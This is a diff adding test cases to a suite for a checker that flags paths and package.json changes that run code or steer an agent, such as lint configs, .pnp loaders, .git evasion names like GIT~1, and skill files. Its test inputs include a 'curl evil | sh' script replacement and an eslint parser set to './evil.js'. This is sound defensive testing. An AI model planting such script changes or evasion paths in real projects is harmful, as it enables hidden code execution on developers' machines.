@@ -17,6 +17,23 @@ describe('files that are asked about whatever is allowed', () => {
     ['.git./config', 'runs'],
     ['.git::$INDEX_ALLOCATION/config', 'runs'],
     [String.raw`a\.git\config`, 'runs'],
+    ['sub/.git', 'runs'],
+    ['sub/.git.', 'runs'],
+    ['sub/GIT~1', 'runs'],
+    ['evil/config', 'runs'],
+    ['evil/config.worktree', 'runs'],
+    ['.cargo/config.toml', 'runs'],
+    ['.mvn/jvm.config', 'runs'],
+    ['.yarn/releases/yarn-4.0.0.cjs', 'runs'],
+    ['.pnp.cjs', 'runs'],
+    ['.pnp.loader.mjs', 'runs'],
+    ['.nvim.lua', 'runs'],
+    ['eslint.config.js', 'runs'],
+    ['a/prettier.config.mts', 'runs'],
+    ['.eslintrc.json', 'runs'],
+    ['.prettierrc', 'runs'],
+    ['.agents/skills/x/a.md', 'steers'],
+    ['skills/x/SKILL.md', 'steers'],
     ['.bashrc', 'runs'],
     ['.zprofile', 'runs'],
     ['.zshenv', 'runs'],
@@ -46,6 +63,8 @@ describe('files that are asked about whatever is allowed', () => {
       'package.json',
       'README.md',
       'git/config.ts',
+      'src/config/a.ts',
+      'eslint.test.js',
       'docs/vscode/a.md',
       'привет.md',
       '说明.md',
@@ -75,6 +94,7 @@ describe('the scripts of a package', () => {
     assert.equal(changesScripts('package.json', old, old.replace('mocha', 'curl evil | sh')), true);
     assert.equal(changesScripts('a/PACKAGE.JSON', old, old.replace('"test"', '"postinstall"')), true);
     assert.equal(changesScripts('package.json', '', old), true);
+    assert.equal(changesScripts('package.json', '{}', '{ "eslintConfig": { "parser": "./evil.js" } }'), true);
     assert.equal(changesScripts('package.json', old, '{ // lenient\n}'), true);
   });
   it('are not when they stay', () => {
